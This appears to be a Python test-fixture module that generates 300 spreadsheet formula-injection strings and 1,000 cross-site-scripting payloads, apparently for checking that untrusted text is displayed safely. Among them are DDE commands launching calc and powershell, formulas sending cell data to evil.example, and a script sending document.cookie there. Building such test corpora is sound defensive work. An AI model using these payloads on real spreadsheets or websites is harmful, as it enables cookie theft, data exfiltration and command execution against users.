"""Texts that would do something where they are only to be shown."""

from collections.abc import Sequence
from itertools import product

_BEGINNINGS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", " =", "'=", '"=', "''=", "=\t", "--"),
    *("+-", "%=", ";=", ",=", "|=", "\ufeff=", "\u200b="),
)
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"look")',
    "SUM(A1:A9)*2",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    "2+5+cmd|'/C powershell'!Z0",
    'INDIRECT("A1")',
    "'file:///etc/passwd'#$passwd.A1",
    "A1",
    "1e9",
)
FORMULAS: Sequence[str] = tuple(beginning + body for beginning, body in product(_BEGINNINGS, _BODIES))
"""300 texts that a spreadsheet might take for a formula, a link or another program's command."""
_CODE = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "document.body.innerHTML=''",
    "top.location='//evil.example'",
)
_SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt src=//evil.example/x.js>{}</sCrIpT>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "` onmouseover={} x=`",
    '" onfocus={} autofocus tabindex=1 x="',
    "' style='background:url(javascript:{})",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<base href=//evil.example/><a href=x>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<form action=javascript:{}><button>x",
    "<a href=javascript:{}>x</a>",
    '<a href=" &#14; javascript:{}">x</a>',
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    'https://evil.example/" onclick="{}',
    "https://evil.example/'><script>{}</script>",
    "http://evil.example/\u2028<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script>{}</script>",
    "\ufeff<script>{}</script>",
    "＜script＞{}＜/script＞",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><script>{}</script>",
    "<xmp><script>{}</script></xmp>",
    "<template><script>{}</script></template>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<body onload={}>",
    "<input onfocus={} autofocus>",
    "<marquee onstart={}>",
    "<isindex action=javascript:{} type=image>",
    "<style>@import '//evil.example/{}';</style>",
    "<div style='x:expression({})'>",
    "{{{{constructor.constructor('{}')()}}}}",
    "\u202e<script>{}</script>\u202c",
)
_WRAPS = ("{}", "7{}", "{} 7", "\n{}\n", "a{}b")
MARKUP: Sequence[str] = tuple(
    wrap.format(script.format(code)) for script, code, wrap in product(_SCRIPTS, _CODE, _WRAPS)
)
"""1,000 texts that a browser might take for markup, a script, a style or an address that runs."""
